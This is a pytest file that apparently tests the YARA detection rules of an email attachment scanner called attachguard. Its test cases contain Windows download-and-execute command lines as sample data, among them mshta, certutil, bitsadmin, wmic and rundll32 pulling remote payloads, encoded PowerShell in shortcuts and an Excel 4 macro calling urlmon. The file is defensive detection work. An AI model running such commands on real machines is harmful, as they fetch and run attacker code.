"""The built-in rules: each has a sample that it matches and one that looks alike and is left alone.

Samples go through a whole scan, so that a rule is also tried on the right layer under the right type.
"""

from __future__ import annotations

import base64
from collections.abc import Callable

import pytest
import yara

from attachguard import Policy, Rules, Scanner
from attachguard.types.filetypes import TYPES
from attachguard.yara.rules import EXTERNALS, builtin_folder
from tests.rules.samples import CASES, CODE, DOWNLOAD, HOST, PAGE_RUNNER, POWERSHELL, PROGRAM, Sample, command


@pytest.fixture(scope="module")
def matched() -> Callable[[Sample], set[str]]:
    """Names of the rules that match somewhere in a sample."""
    scanner = Scanner(Policy.load("audit"), rules=Rules.builtin())

    def run(sample: Sample) -> set[str]:
        content = sample.content if isinstance(sample.content, bytes) else sample.content.encode()
        report = scanner.scan(content, name=sample.name, kind=sample.kind)
        return {
            finding.detail.split()[1].rstrip(":") for finding in report.findings if finding.source.startswith("yara:")
        }

    return run


def compiled():
    """Each rule with the file it is in."""
    nothing = {
        name: False if name in ("ag_encrypted", "ag_has_macros") else 0 if name == "ag_depth" else ""
        for name in EXTERNALS
    }
    for file in sorted(builtin_folder().rglob("*.yar")):
        for rule in yara.compile(source=file.read_text("utf-8"), externals=nothing, error_on_warning=True):
            yield file, rule


def test_every_rule_has_its_samples():
    assert {rule.identifier for _, rule in compiled()} == set(CASES)


@pytest.mark.parametrize("rule", CASES)
def test_the_rule_matches_what_it_is_for(matched, rule):
    positive, _ = CASES[rule]()
    assert rule in matched(positive)


@pytest.mark.parametrize("rule", CASES)
def test_the_rule_leaves_alone_what_looks_alike(matched, rule):
    _, lookalike = CASES[rule]()
    assert matched(lookalike) == set()


@pytest.mark.parametrize("rule", [pytest.param(rule, id=rule.identifier) for _, rule in compiled()])
def test_the_rule_says_what_it_is(rule):
    meta = rule.meta
    assert meta["author"] == "attachguard"
    assert meta["description"][0].isupper()
    assert not meta["description"].endswith(".")
    assert 60 <= meta["score"] <= 100
    assert meta["attachguard_code"] in ("malware-suspected", "malware-signature")
    known = {key for kind in TYPES.values() for key in (kind.id, kind.group)} | {"bin", "unknown"}
    assert meta["attachguard_types"].split()
    assert set(meta["attachguard_types"].split()) <= known


def test_only_what_is_certain_counts_as_a_signature():
    assert {rule.identifier for _, rule in compiled() if rule.meta["attachguard_code"] == "malware-signature"} == {
        "EICAR_Test_File"
    }


def test_no_file_is_shown_to_rules_that_are_not_for_it():
    """One rule without types would have every image and archive read by all of them."""
    assert Rules.builtin()._gates is not None


def test_the_same_program_in_a_mail_saved_as_text_is_an_attachment(matched):
    text = f"Subject: a\r\n\r\n--x\r\nContent-Transfer-Encoding: base64\r\n\r\n{base64.b64encode(PROGRAM).decode()}\r\n--x--\r\n"
    assert "Program_As_Base64" not in matched(Sample("Weitergeleitet:\r\n\r\n" + text, "mail.txt"))


def test_a_macro_that_downloads_is_found_in_a_text_workbook_too(matched):
    macro = f'ID;PWXL;N;E\r\nO;E\r\nC;X1;Y1;K0;ECALL("urlmon","{DOWNLOAD}A")\r\nE\r\n'
    assert "Excel4_Macro_Downloads" in matched(Sample(macro, "a.slk"))


@pytest.mark.parametrize(
    "line",
    [
        f"{PAGE_RUNNER} {HOST}/a.hta",
        f"{PAGE_RUNNER}.exe {HOST}/a",
        f'{PAGE_RUNNER} vbscript:Execute("x")(window.close)',
        f"certutil -url{'cache'} -split -f {HOST}/a a.exe",
        f"bitsadmin /trans{'fer'} a {HOST}/a C:\\a.exe",
        f'wmic os get /form{"at"}:"{HOST}/a.xsl"',
        f'rundll{32} javascript:"\\..\\msh{"tml"},RunHTMLApplication "',
    ],
)
def test_windows_tools_are_known_in_their_foreign_uses(matched, line):
    assert "Windows_Tool_Runs_Remote_Code" in matched(Sample(f"@echo off\r\n{line}\r\n", "a.bat"))


@pytest.mark.parametrize(
    ("target", "arguments", "expected"),
    [
        (f"C:\\Windows\\System32\\{PAGE_RUNNER}.exe", f"{HOST}/a", True),
        (f"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\{POWERSHELL}.exe", f"-ec {CODE} -enc{'o'} {CODE}", True),
        ("%ComSpec%", "/c copy a %TEMP%\\a.exe", True),
        (f"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\{POWERSHELL}.exe", "", False),
        ("C:\\Programme\\Fach\\fach.exe", "-window hidden %TEMP%", False),
    ],
)
def test_shortcuts_are_judged_by_their_command_line(matched, target, arguments, expected):
    found = matched(Sample(command(arguments, target), "a.lnk"))
    assert ("Shortcut_Runs_Hidden_Command" in found) is expected
